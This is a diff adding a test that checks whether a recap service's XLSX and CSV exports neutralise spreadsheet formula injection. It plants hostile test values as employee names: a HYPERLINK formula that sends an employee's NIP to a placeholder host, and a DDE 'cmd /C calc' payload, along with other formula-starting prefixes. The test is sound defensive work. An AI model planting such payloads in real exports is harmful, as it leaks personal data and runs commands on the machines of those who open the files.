@@ -63,3 +63,48 @@ async def test_exports_are_refused_to_employees_and_operations(world: World):
     for role in (Role.EMPLOYEE, Role.OPERATIONS):
         response = await world.client.get("/api/v1/exports/recap.xlsx", headers=world.auth(role))
         assert response.status == 403
+
+
+# A name that, as a live formula, sends the row's NIP (column B) to a stranger when clicked.
+HOSTILE_NAME = '=HYPERLINK("http://x/?"&B2,"Citra")'
+HOSTILE_POSITIONS = {ANI: "-2+3+cmd|' /C calc'!A0", BUDI: "@SUM(A1:A9)"}
+HOSTILE_EXTRA = {ANI: "\t=1+1", BUDI: "\r=1+1"}  # tab and CR also start a formula in some spreadsheets
+
+
+async def test_exports_never_write_a_formula_whatever_the_names_hold(world: World):
+    from server.models import Employee
+
+    await Employee.filter(nip=CITRA).update(name=HOSTILE_NAME)
+    for nip, position in HOSTILE_POSITIONS.items():
+        await Employee.filter(nip=nip).update(position=position, name=HOSTILE_EXTRA[nip])
+    admin = world.auth(Role.BUREAU_ADMIN)
+
+    response = await world.client.get("/api/v1/exports/recap.xlsx", params={"month": MONTH}, headers=admin)
+    assert response.status == 200
+    sheet = load_workbook(io.BytesIO(await response.read())).active
+    cells = {row[1].value: row for row in sheet.iter_rows(min_row=2)}
+    assert set(cells) == {ANI, BUDI, CITRA}
+    citra = cells[CITRA]
+    # Stored as a string cell holding exactly the name: text, not a formula (openpyxl's type "f").
+    assert (citra[2].value, citra[2].data_type, citra[2].quotePrefix) == (HOSTILE_NAME, "s", True)
+    for nip in (ANI, BUDI):
+        name, position = cells[nip][2], cells[nip][3]
+        # (XML reads a stored CR back as LF: still the same string cell.)
+        assert (name.value, position.value) == (HOSTILE_EXTRA[nip].replace("\r", "\n"), HOSTILE_POSITIONS[nip])
+        assert name.data_type == position.data_type == "s"
+    for row in sheet.iter_rows():
+        assert all(cell.data_type != "f" for cell in row)
+        assert row[1].data_type == "s"  # the NIP is always text
+    assert all(cell.number_format == "@" for (cell,) in sheet.iter_rows(min_row=2, min_col=2, max_col=2))
+
+    response = await world.client.get("/api/v1/exports/recap.csv", params={"month": MONTH}, headers=admin)
+    rows = list(csv.reader(io.StringIO((await response.read()).decode("utf-8-sig"), newline="")))
+    body = {row[1]: dict(zip(HEADER, row, strict=True)) for row in rows[1:]}
+    # OWASP: a field that would start a formula gets a leading single quote; the rest of it is unchanged.
+    assert body[CITRA]["Nama"] == "'" + HOSTILE_NAME
+    for nip in (ANI, BUDI):
+        assert body[nip]["Nama"] == "'" + HOSTILE_EXTRA[nip]
+        assert body[nip]["Jabatan"] == "'" + HOSTILE_POSITIONS[nip]
+    for row in rows:
+        assert not any(field.startswith(("=", "+", "-", "@", "\t", "\r")) for field in row)
+    assert body[CITRA]["NIP"] == CITRA and float(body[CITRA]["Nilai (%)"]) >= 0  # the numbers stay numbers
